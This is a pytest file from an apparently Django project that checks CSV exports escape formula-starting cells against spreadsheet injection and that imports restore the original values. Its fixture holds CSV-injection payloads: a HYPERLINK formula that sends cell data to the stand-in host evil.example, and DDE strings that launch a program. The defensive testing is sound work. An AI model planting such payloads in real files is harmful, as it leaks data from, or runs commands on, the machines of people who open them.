"""CSV exports cannot attack the spreadsheet that opens them (OWASP "CSV injection"), and still import back."""

import csv
import io
from decimal import Decimal

import pytest

from accounts.models import Role
from orders.models import Client
from stocky.exchange import formats

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "contact_person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+33 rue du Port",
    "city": "-2+3+cmd|' /C calc'!A0",
    "region": "'Quoted by its author",
}
ESCAPED = {column: "'" + value for column, value in HOSTILE.items()}


@pytest.fixture
def hostile_client():
    return Client.objects.create(phone="0600000000", client_type="restaurant", **HOSTILE)


def exported_cells(content):
    (row,) = csv.DictReader(io.StringIO(content))
    return {column: row[column] for column in HOSTILE}


def test_the_export_command_neutralises_formulas_and_the_import_gives_them_back(hostile_client, run, tmp_path):
    path = tmp_path / "clients.csv"
    run("export", "clients", "--output", str(path))
    assert exported_cells(path.read_text(encoding="utf-8")) == ESCAPED

    Client.objects.all().delete()
    run("import", "clients", str(path))
    assert Client.objects.values(*HOSTILE).get() == HOSTILE


def test_the_admins_csv_export_neutralises_formulas_and_its_import_gives_them_back(
    hostile_client, admin_client_for, django_capture_on_commit_callbacks
):
    client = admin_client_for(Role.MANAGER)
    response = client.get("/admin/orders/client/export/?format=csv")
    assert exported_cells(response.content.decode()) == ESCAPED

    Client.objects.all().delete()
    upload = io.BytesIO(response.content)
    upload.name = "clients.csv"
    with django_capture_on_commit_callbacks(execute=True):  # the import's background task
        client.post("/admin/orders/client/import/", {"file": upload})
    assert Client.objects.values(*HOSTILE).get() == HOSTILE


def test_numbers_stay_numbers_and_only_our_own_escape_is_removed():
    rows = [
        {"text": "\tSUM(1)", "quantity": Decimal("-4.500"), "count": -3},
        {"text": "\r=1+1", "quantity": Decimal("12"), "count": 0},
        {"text": "-5 kg, dropped", "quantity": None, "count": 1},
    ]
    stream = io.BytesIO()
    formats.write(stream, "csv", ["text", "quantity", "count"], rows)
    written = stream.getvalue().decode()
    assert written.splitlines()[1] == "'\tSUM(1),-4.500,-3"  # a negative quantity is a number, not a formula
    table = formats.read(stream.getvalue(), "csv")
    assert [row.values for row in table.rows] == [
        {"text": "\tSUM(1)", "quantity": "-4.500", "count": "-3"},
        {"text": "\r=1+1", "quantity": "12", "count": "0"},
        {"text": "-5 kg, dropped", "quantity": "", "count": "1"},
    ]
    # A file written by hand keeps its own "'": only a "'" before a formula start is ours.
    by_hand = formats.read(b"name,note\n'twas,'=1\n", "csv")
    assert by_hand.rows[0].values == {"name": "'twas", "note": "=1"}
